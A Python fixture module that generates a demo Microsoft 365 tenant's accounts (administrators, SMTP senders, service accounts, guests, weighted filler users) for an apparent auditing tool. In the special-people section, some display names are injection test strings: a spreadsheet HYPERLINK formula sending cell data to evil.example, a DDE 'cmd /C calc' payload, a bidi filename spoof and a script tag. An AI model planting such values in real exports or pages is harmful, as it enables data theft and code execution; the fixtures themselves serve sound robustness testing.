"""Who works at the demo company: the special accounts that each show one thing, and filler drawn by weights."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from auditor.demo.tenant.account import EXPIRING, FEDERATED, INITIAL, ROOT, SUB, UNSET, Account
from auditor.demo.tenant.licences import Licence

E3 = (Licence("SPE_E3"),)
E5 = (Licence("SPE_E5"),)
PLAN1 = (Licence("EXCHANGESTANDARD"),)
PREMIUM = (Licence("SPB"),)
F3 = (Licence("SPE_F1"),)

PUSH = ("microsoftAuthenticatorPush", "softwareOneTimePasscode")
PHONE = ("mobilePhone", "microsoftAuthenticatorPush")

UNKNOWN_MFA = "unknownFutureValue"
"""What Graph answers for an enum member that its version does not know"""

SENDERS = ("smtp-senders",)
DEVICES = ("smtp-devices",)

LONG_NAME = "Regional Deputy Coordinator for Accounts Receivable, Returns and Very Long Titles " * 3


def special() -> Iterator[Account]:
    """The special accounts, in a fixed order. They exist at every size and in every scenario."""
    yield from _administrators()
    yield from _senders()
    yield from _service_accounts()
    yield from _people()
    yield from _resources()
    yield from _guests()
    yield from _outside_exchange_online()


def _user(key: str, name: str, domain: str = ROOT, **more: Any) -> Account:
    """An ordinary mailbox user with an E3, unless told otherwise."""
    defaults: dict[str, Any] = {"licences": E3, "mailbox": "UserMailbox", "exchange": "UserMailbox"}
    return Account(key, name, f"{key}@{domain}", **(defaults | more))


def _bare(key: str, name: str, domain: str = ROOT, **more: Any) -> Account:
    """An account without licence and mailbox."""
    defaults: dict[str, Any] = {"mail": None, "exchange": "User"}
    return Account(key, name, f"{key}@{domain}", **(defaults | more))


def _administrators() -> Iterator[Account]:
    for number in (1, 2):
        yield _bare(f"breakglass{number}", f"Break Glass {number}", INITIAL, never_expires=True, password_days=700,
                    methods=("fido2SecurityKey",), roles=("Global Administrator",))  # fmt: skip
    yield _user("admin.ravel", "Ilse Ravel (Admin)", methods=PUSH, roles=("Global Administrator",), licences=E5)
    yield _user("admin.okafor", "Ngozi Okafor (Admin)", methods=("fido2SecurityKey",), licences=E5,
                roles=("Exchange Administrator", "Privileged Role Administrator"))  # fmt: skip
    yield _user("admin.migration", "Migration Operator", methods=PHONE, switch=False, never_expires=True,
                password_days=610, roles=("User Administrator",), groups=("exc-legacy", "exc-mfa"),
                smtp="sometimes")  # fmt: skip
    yield _user("admin.helpdesk1", "Piet Vermeer", methods=PUSH, groups=("role-helpdesk", "exc-legacy", "exc-mfa"))
    yield _user("admin.helpdesk2", "Lea Brandt", methods=(), groups=("role-helpdesk",))
    yield _user("admin.branch", "Tomas Lindqvist", methods=PUSH)
    yield _user("admin.custom", "Adaeze Nwosu", methods=PUSH)
    yield _user("admin.security", "Yuki Tanaka", methods=("fido2SecurityKey", "microsoftAuthenticatorPush"),
                licences=E5, roles=("Security Administrator",))  # fmt: skip


def _senders() -> Iterator[Account]:
    """The accounts of senders.SENDERS, one fate each."""
    mailbox: dict[str, Any] = {"switch": False, "never_expires": True, "password_days": 300}
    yield _user("svc.erp", "ERP Invoices", **mailbox, groups=("smtp-devices", "office-only"), smtp="daily")
    yield _user("svc.scanner", "Scanner HQ", **(mailbox | {"switch": True}), groups=DEVICES, smtp="stopped")
    yield _user("svc.monitoring", "Monitoring Alerts", **(mailbox | {"switch": None}), groups=SENDERS, smtp="refused")
    yield _user("svc.crm", "CRM Mailer", **mailbox, groups=SENDERS, auth_policy="Block Basic Auth")
    yield _user("svc.newsletter", "Newsletter", **mailbox, groups=("exc-mfa",), smtp="contradiction")
    yield _user("svc.onboarding", "HR Onboarding", **mailbox, groups=("exc-legacy",), smtp="ca-refused")
    yield _user("svc.warehouse", "Warehouse Printers", **mailbox, groups=("smtp-devices", "office-only"), smtp="daily")
    yield _user("svc.oldhelpdesk", "Old Helpdesk", **mailbox, enabled=False, groups=SENDERS, smtp="disabled")
    yield _user("svc.plant", "Plant Reports", EXPIRING, switch=False, password_days=200, groups=SENDERS,
                smtp="expired")  # fmt: skip
    yield _user("svc.fabrikam", "Fabrikam Notifications", FEDERATED, **mailbox, synced=True, groups=SENDERS,
                smtp="cloud")  # fmt: skip
    yield _bare("svc.kiosk", "Kiosk Board", licences=(Licence("M365_F1"),), groups=SENDERS, never_expires=True)
    yield _user("info", "Information Desk", licences=(), mailbox="SharedMailbox", exchange="SharedMailbox",
                switch=False, never_expires=True, groups=SENDERS, smtp="daily")  # fmt: skip
    yield _user("svc.legacyapp", "Legacy App", **mailbox, mfa="enforced", methods=PHONE, app_password=True,
                groups=SENDERS, smtp="daily")  # fmt: skip
    yield _user("svc.copier", "Copier Second Floor", **mailbox, groups=DEVICES)
    yield _user("svc.payroll", "Payroll Run", **mailbox, groups=SENDERS)
    yield _user("svc.sales", "Sales Quotes", **mailbox, aliases=(f"quotes@{ROOT}",), groups=SENDERS, smtp="daily")
    yield _user("svc.bulk", "Bulk Mailer", **mailbox, groups=SENDERS, smtp="cloud")
    yield _user("svc.burst", "Burst Mailer", **mailbox, groups=SENDERS)
    yield _user("svc.sendas", "Invoices as Finance", **mailbox, groups=("smtp-senders", "finance-senders"),
                smtp="abroad")  # fmt: skip
    yield _user("svc.scale", "Weighbridge", **mailbox, groups=DEVICES, smtp="daily")
    yield _user("svc.gate", "Gate Controller", **mailbox, groups=DEVICES)
    yield _user("svc.badge", "Badge Printer", **mailbox, mail=f"badges@{ROOT}", groups=DEVICES)
    yield _user("svc.lobby", "Lobby Display", **mailbox, groups=DEVICES)
    yield _user("svc.pilot", "Pilot Line", **mailbox, groups=("smtp-senders", "pilot-future"))
    for key, name in _OAUTH_SENDERS:
        groups = ("smtp-senders", "modern-mfa") if key == "portal" else SENDERS
        yield _user(f"app.{key}", name, **mailbox, groups=groups, methods=PHONE if key == "portal" else ())
    yield _bare("hve.internal", "Internal Announcements", mail="", exchange="MailUser", never_expires=True,
                groups=SENDERS)  # fmt: skip
    yield _user("svc.relay", "Relay Printers", **mailbox, groups=DEVICES)


_OAUTH_SENDERS = (("ticketing", "Ticketing"), ("backup", "Backup Reports"), ("surveys", "Surveys"),
                  ("rbac", "Meter Readings"), ("portal", "Customer Portal"), ("workload", "Parcel Labels"))  # fmt: skip


def _service_accounts() -> Iterator[Account]:
    open_to_all = ("exc-legacy", "exc-mfa")
    yield _user("svc.faxgate", "Fax Gateway (unused?)", licences=PLAN1, never_expires=True, password_days=2100,
                groups=open_to_all, smtp="undeclared")  # fmt: skip
    yield _user("svc.abandoned", "Abandoned Integration", licences=PLAN1, switch=False, password_days=1500,
                never_expires=True, groups=open_to_all, mfa="enabled")  # fmt: skip
    yield _user("svc.hours", "Night Batch", licences=PLAN1, groups=("smtp-senders", "pilot-hours"))
    yield _user("svc.trusted", "Trusted Network Only", licences=PLAN1, groups=("smtp-senders", "trusted-only"))
    yield _user("svc.strength", "Bare Password Strength", licences=PLAN1, groups=("smtp-senders", "pilot-strength"))
    yield _user("svc.platform", "Platform Pilot", licences=PLAN1, groups=("smtp-senders", "pilot-platform"))
    yield _user("svc.device", "Frontline Device", licences=F3, groups=("smtp-senders", "frontline"))
    yield _user("svc.filter", "Attribute Filter Pilot", licences=PLAN1, groups=("smtp-senders", "pilot-filter"))
    yield _user("svc.approved", "Approved App Pilot", licences=PLAN1, groups=("smtp-senders", "pilot-approved"))
    yield _user("svc.board", "Board Assistant", groups=("board",))
    for number, host in enumerate(("DC01", "DC02"), 1):
        yield _bare(f"Sync_{host}_{number:012x}", "On-Premises Directory Synchronization Service Account", INITIAL,
                    never_expires=True, password_days=500, methods=None, groups=("sync-accounts",),
                    roles=("Directory Synchronization Accounts",))  # fmt: skip


def _people() -> Iterator[Account]:
    """People with something uncommon about licence, mailbox, policy, credential or name."""
    blocked = "CN=Block Basic Auth,CN=Auth Policies,CN=Configuration,CN=contosodemo.onmicrosoft.com"
    yield _user("vip.director", "Aurelia Fontaine", licences=E5, methods=(), groups=("vip", "exc-legacy", "exc-mfa"))
    yield _user("nils.hagen", "Nils Hagen", auth_policy=blocked, methods=PUSH, groups=("exc-legacy", "exc-mfa"))
    yield _user("sofia.marin", "Sofía Marín", auth_policy="{guid:Block Basic Auth}", methods=PUSH)
    yield _user("jan.novak", "Jan Novák", auth_policy="Policy of 2019 (deleted)", methods=PHONE,
                groups=("exc-legacy", "exc-mfa"))  # fmt: skip
    yield _user("dana.allow", "Dana Holm", licences=PREMIUM, auth_policy="Allow SMTP for devices", methods=PUSH)
    yield _user("kiosk.worker", "Bo Andersen", licences=(Licence("EXCHANGEDESKLESS"),), methods=())
    yield _user("frontline.worker", "Mina Sato", licences=F3, methods=("mobilePhone",), groups=("frontline",))
    yield _bare("f1.worker", "Ravi Menon", licences=(Licence("M365_F1_COMM"),), mail="", methods=())
    yield _bare("apps.only", "Chiara Conti", licences=(Licence("O365_BUSINESS"),), methods=PUSH)
    yield _bare("never.mail", "Test Login", methods=())
    yield _bare("once.mail", "Former Mail User", old_plans=("EXCHANGE_S_STANDARD",))
    yield _bare("plan.off", "Plan Switched Off", licences=(Licence("SPE_E3", off=("EXCHANGE_S_ENTERPRISE",)),))
    yield _user("plan.error", "Licence In Error", methods=PUSH,
                licences=(Licence("SPE_E3", state="Error", error="CountViolation", group="lic-e3"),))  # fmt: skip
    yield _bare(
        "plan.errornomail",
        "Licence In Error, No Mailbox",
        licences=(Licence("SPE_E3", state="Error", error="MutuallyExclusiveViolation", group="lic-e3"),),
    )
    yield _user("plan.both", "Error And A Good One", methods=PUSH,
                licences=(Licence("SPE_E3", state="Error", error="CountViolation", group="lic-e3"),
                          Licence("STANDARDPACK")))  # fmt: skip
    yield _user("plan.suspended", "Suspended Plan", licences=(Licence("ENTERPRISEPACK", capability="Suspended"),))
    yield _user("plan.pending", "Pending Plan", licences=(Licence("EXCHANGEENTERPRISE"),), created_days=1)
    yield _user("plan.upgraded", "Moved To E5", licences=E5, old_plans=("EXCHANGE_S_DESKLESS",), methods=PUSH)
    yield _user("delicensed", "Delicensed Colleague", licences=(), old_plans=("EXCHANGE_S_ENTERPRISE",))
    yield _user("expired.enforced", "Expired And Enforced", EXPIRING, mfa="enforced", password_days=300,
                methods=PHONE)  # fmt: skip
    yield _user(
        "expired.unknown", "Expired, MFA Not Answered", EXPIRING, mfa=UNKNOWN_MFA, password_days=300, methods=None
    )
    yield _user("unset.old", "Old Password", UNSET, password_days=400, methods=PUSH)
    yield _user("unset.new", "New Password", UNSET, password_days=20, rotates=True, methods=PUSH)
    yield _user("sub.domain", "Plant Clerk", SUB, password_days=800, methods=PUSH)
    yield _user("mfa.enabled", "Not Yet Registered", mfa="enabled", methods=(), groups=("exc-legacy", "exc-mfa"))
    yield _user("mfa.silent", "Per-User State Unknown", mfa=UNKNOWN_MFA, methods=PUSH)
    yield _user("no.casrow", "No CAS Row", cas_row=False, methods=PUSH)
    yield _user("on.explicit", "Explicitly On", switch=False, methods=PUSH)
    yield _user("off.explicit", "Explicitly Off", switch=True, methods=PUSH)
    yield _user("formula", '=HYPERLINK("http://evil.example/?"&A1,"Invoice")', methods=PUSH,
                groups=("exc-legacy", "exc-mfa"))  # fmt: skip
    yield _user("plusminus", "+cmd|' /C calc'!A0", methods=())
    yield _user("bidi", "Anna \u202egpj.exe\u202c Šimůnková 🦊", methods=PUSH)
    yield _user("control", "Bell\u0007 Tab\tLine\nBreak\u0000Zero", methods=None)
    yield _user("longname", LONG_NAME.strip()[:256], methods=PUSH)
    yield _user("markup", "<script>alert(1)</script> & \"Quotes\", 'commas'; \\back", methods=PUSH)
    yield _user("MixedCase", "Mixed Case", switch=False, methods=PUSH, mail=f"Mixed.Case@{ROOT}")
    for number in range(1, 4):
        yield _user(f"leaver{number}", f"Leaver {number}", enabled=False, licences=(), methods=PUSH,
                    mailbox="SharedMailbox" if number == 1 else "UserMailbox",
                    exchange="SharedMailbox" if number == 1 else "UserMailbox",
                    old_plans=("EXCHANGE_S_ENTERPRISE",))  # fmt: skip


def _resources() -> Iterator[Account]:
    shared: dict[str, Any] = {"licences": (), "mailbox": "SharedMailbox", "exchange": "SharedMailbox", "methods": None}
    yield _user("payroll", "Payroll", **shared, enabled=False)
    yield _user("finance", "Finance", **shared, enabled=False)
    yield _user("support", "Support", **shared)
    yield _user("press", "Press Office", **(shared | {"licences": PLAN1}), enabled=False)
    for kind in ("Room", "Equipment"):
        yield _user(f"{kind.lower()}.one", f"{kind} One", licences=(), mailbox=f"{kind}Mailbox",
                    exchange=f"{kind}Mailbox", enabled=False, resource=True, methods=None)  # fmt: skip
    yield _user("room.board", "Board Room", licences=(), mailbox="RoomMailbox", exchange="RoomMailbox",
                resource=True, methods=None)  # fmt: skip


def _guests() -> Iterator[Account]:
    partner = f"partner_tailwind.example#EXT#@{INITIAL}"
    yield Account("guest.partner", "Partner Guest", partner, user_type="Guest", creation_type="Invitation",
                  external_state="Accepted", mail="partner@tailwind.example", exchange="GuestMailUser",
                  password_days=None)  # fmt: skip
    yield Account("guest.pending", "Pending Guest", f"pending_wingtip.example#EXT#@{INITIAL}", user_type="Guest",
                  creation_type="Invitation", external_state="PendingAcceptance", mail="pending@wingtip.example",
                  exchange="GuestMailUser", password_days=None, methods=None)  # fmt: skip
    yield _bare("guest.internal", "Internal Guest", user_type="Guest")
    yield Account("external.member", "External Member", f"member_wingtip.example#EXT#@{INITIAL}",
                  creation_type="Invitation", external_state="Accepted", mail="member@wingtip.example",
                  exchange="MailUser", password_days=None)  # fmt: skip
    yield _user("external.hosted", "Contractor With Mailbox", licences=PLAN1, user_type="Guest", methods=PUSH)


def _outside_exchange_online() -> Iterator[Account]:
    yield _bare("mail.user", "Forwarded Colleague", mail="colleague@elsewhere.example", exchange="MailUser")
    for number in (1, 2):
        yield _bare(f"onprem{number}", f"Plant Office {number}", mail="", exchange="MailUser", synced=True,
                    licences=E3 if number == 1 else ())  # fmt: skip


FIRST = ("Amina", "Björn", "Chloé", "Dmitri", "Elif", "Femi", "Giulia", "Hiro", "Inès", "João", "Katarzyna", "Liam",
         "Mei", "Nadia", "Olu", "Petra", "Quentin", "Rosa", "Søren", "Tereza", "Uma", "Viktor", "Wanjiru", "Xin",
         "Yasmin", "Zoltán", "Anneke", "Bruno", "Carmen", "Deniz")  # fmt: skip
LAST = ("Abebe", "Bianchi", "Çelik", "Dubois", "Eriksson", "Fischer", "García", "Horváth", "Ivanova", "Jansen",
        "Kowalski", "Lefèvre", "Müller", "Nakamura", "O'Brien", "Petrov", "Quispe", "Rossi", "Silva", "Tanaka",
        "Ueda", "Van den Berg", "Weber", "Xu", "Yılmaz", "Zimmermann")  # fmt: skip
DEPARTMENTS = ("finance", "production", "sales", "engineering", "logistics")

KINDS = ("person",) * 70 + ("frontline",) * 12 + ("leaver",) * 4 + ("shared",) * 5 + ("room",) * 3 + (
    "equipment", "guest", "guest", "guest", "unlicensed", "service")  # fmt: skip
_METHODS: tuple[tuple[str, ...] | None, ...] = (PUSH, PUSH, PUSH, PUSH, PHONE, PHONE, ("fido2SecurityKey",),
                                                ("mobilePhone",), (), None)  # fmt: skip
_DOMAINS = (ROOT,) * 14 + (SUB, SUB, FEDERATED, EXPIRING, UNSET, ROOT)
_LICENCES = (E3,) * 12 + (E5,) * 4 + (PREMIUM, PREMIUM, (Licence("STANDARDPACK"),),
                                      (Licence("SPE_E3", group="lic-e3"),))  # fmt: skip


Dice = tuple[float, float, float]


def _plain(number: int, prefix: str, name: str, domain: str, **more: Any) -> Account:
    return Account(f"{prefix}{number}", name, f"{prefix}{number:05d}@{domain}", number=number, **more)


def _person(number: int, first: str, last: str, dice: Dice) -> Account:
    domain = _DOMAINS[int(dice[0] * len(_DOMAINS))]
    days = 80 * dice[1] if domain in (EXPIRING, UNSET) else 20 + 900 * dice[1]
    return _plain(
        number, "p", f"{first} {last}", domain,
        licences=_LICENCES[int(dice[2] * len(_LICENCES))], mailbox="UserMailbox", exchange="UserMailbox",
        methods=_METHODS[int(dice[1] * len(_METHODS))], password_days=days,
        rotates=domain in (EXPIRING, UNSET), created_days=120 + 2500 * dice[2],
        synced=dice[0] < 0.6 and domain != UNSET, department=DEPARTMENTS[number % len(DEPARTMENTS)],
        switch=None if dice[2] < 0.93 else dice[2] > 0.96,
        mfa="disabled" if dice[1] < 0.94 else ("enabled" if dice[1] < 0.97 else "enforced"),
        auth_policy="Block Basic Auth" if 0.55 < dice[2] < 0.62 else None,
    )  # fmt: skip


def _frontline(number: int, first: str, last: str, dice: Dice) -> Account:
    return _plain(
        number, "f", f"{first} {last}", ROOT, licences=F3, mailbox="UserMailbox", exchange="UserMailbox",
        methods=("mobilePhone",) if dice[0] < 0.5 else (), password_days=30 + 500 * dice[1],
        created_days=30 + 900 * dice[2], department="frontline",
    )  # fmt: skip


def _leaver(number: int, first: str, last: str, dice: Dice) -> Account:
    kept = dice[0] < 0.5
    return _plain(
        number, "l", f"{first} {last}", ROOT, enabled=False, old_plans=("EXCHANGE_S_ENTERPRISE",),
        mail="" if kept else None, mailbox="SharedMailbox" if kept else "",
        exchange="SharedMailbox" if kept else "DisabledUser", methods=None, password_days=400 + 900 * dice[1],
    )  # fmt: skip


def _shared(number: int, _first: str, last: str, dice: Dice) -> Account:
    return _plain(number, "s", f"Team {last}", ROOT, enabled=dice[0] < 0.2, mailbox="SharedMailbox",
                  exchange="SharedMailbox", methods=None, password_days=700)  # fmt: skip


def _room(number: int, first: str, _last: str, _dice: Dice) -> Account:
    return _plain(number, "r", f"Room {first} {number}", ROOT, enabled=False, mailbox="RoomMailbox",
                  exchange="RoomMailbox", methods=None, resource=True, password_days=700)  # fmt: skip


def _equipment(number: int, first: str, _last: str, _dice: Dice) -> Account:
    return _plain(number, "e", f"Van {first} {number}", ROOT, enabled=False, mailbox="EquipmentMailbox",
                  exchange="EquipmentMailbox", methods=None, resource=True, password_days=700)  # fmt: skip


def _guest(number: int, first: str, last: str, dice: Dice) -> Account:
    return Account(
        f"g{number}", f"{first} {last} (Guest)", f"g{number:05d}_wingtip.example#EXT#@{INITIAL}", number=number,
        user_type="Guest", creation_type="Invitation", external_state="Accepted" if dice[0] < 0.8 else
        "PendingAcceptance", mail=f"g{number:05d}@wingtip.example", exchange="GuestMailUser", password_days=None,
        methods=PUSH if dice[1] < 0.7 else None,
    )  # fmt: skip


def _unlicensed(number: int, first: str, last: str, _dice: Dice) -> Account:
    return _plain(number, "u", f"{first} {last}", ROOT, mail=None, exchange="User")


def _service(number: int, _first: str, last: str, dice: Dice) -> Account:
    return _plain(
        number, "svc", f"Service {last} {number}", ROOT, licences=PLAN1, mailbox="UserMailbox",
        exchange="UserMailbox", never_expires=True, password_days=300 + 1500 * dice[0],
        switch=False if dice[1] < 0.5 else None, groups=("smtp-senders",) if dice[2] < 0.5 else (),
    )  # fmt: skip


_FILLERS = {"person": _person, "frontline": _frontline, "leaver": _leaver, "shared": _shared, "room": _room,
            "equipment": _equipment, "guest": _guest, "unlicensed": _unlicensed, "service": _service}  # fmt: skip


def filler(number: int, kind: str, first: str, last: str, dice: Dice) -> Account:
    """One ordinary account. Mailbox and methods hang on the dice in steps of one half, one tenth and one twentieth
    (crowd.py tells its sorts apart so)."""
    return _FILLERS[kind](number, first, last, dice)
